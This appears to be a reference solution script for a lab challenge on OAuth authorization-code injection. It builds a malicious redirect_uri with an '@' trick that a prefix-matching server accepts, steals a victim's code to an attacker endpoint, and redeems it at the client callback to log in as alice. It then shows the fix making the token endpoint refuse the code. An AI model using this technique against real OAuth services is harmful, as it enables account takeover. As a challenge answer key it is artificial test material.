# A reference solution for challenge 18.code_injection: steal a code through a redirect the server prefix-matches,
# then inject it at the client's callback in your own session; the client redeems it with ITS redirect_uri.
me = httpx.Client(trust_env=False)
evil = lab.flow.client.origin + "@" + lab.flow.attacker.url.removeprefix("http://") + "/steal"


def steal_and_inject():
    request = query_of(me.get(f"{lab.flow.client.url}/login").headers["location"])
    request["redirect_uri"] = evil
    lab.flow.victim.visit(f"{lab.flow.as_.url}/authorize?{urlencode(request)}")
    stolen = lab.flow.attacker.received[-1].params["code"]
    return me.get(f"{lab.flow.client.url}/callback",
                  params={"code": stolen, "state": request.get("state", ""), "iss": lab.flow.as_.issuer}).json()


print(steal_and_inject())                 # logged in as alice
lab.flow.disable("code_injection")
print(steal_and_inject())                 # a fresh code stolen the same way: the token endpoint refuses it
challenge.check()
